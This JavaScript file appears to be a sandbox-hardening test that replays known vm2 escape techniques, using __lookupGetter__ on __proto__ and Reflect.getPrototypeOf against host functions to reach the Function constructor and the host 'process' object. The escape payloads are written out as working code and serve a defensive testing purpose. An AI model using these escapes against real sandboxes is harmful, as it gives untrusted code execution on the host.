// Escape attempt: vm2 #184 and GHSA-grj5-jjm8-h35p: __lookupGetter__ of __proto__ called on a host function to reach its real prototype.
// Runs with ../escape-harness.js prepended (pwn, attempt).

module.exports = {
  name: 'escape-lookup-getter',
  description: 'sandbox escape attempt: lookup-getter',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    attempt(notes, "send", () => { const proto = __send.__lookupGetter__("__proto__").call(__send); pwn(Object.getOwnPropertyDescriptor(proto, "constructor").value("return process")(), marker, notes, "lookupGetter __send"); });
    attempt(notes, "ctx", () => { const proto = ctx.log.__lookupGetter__("__proto__").call(ctx.log); pwn(Object.getOwnPropertyDescriptor(proto, "constructor").value("return process")(), marker, notes, "lookupGetter ctx"); });
    attempt(notes, "reflect", () => pwn(Reflect.getPrototypeOf(__send).constructor("return process")(), marker, notes, "Reflect.getPrototypeOf"));
    return { summary: notes.join(' | '), data: notes };
  },
};
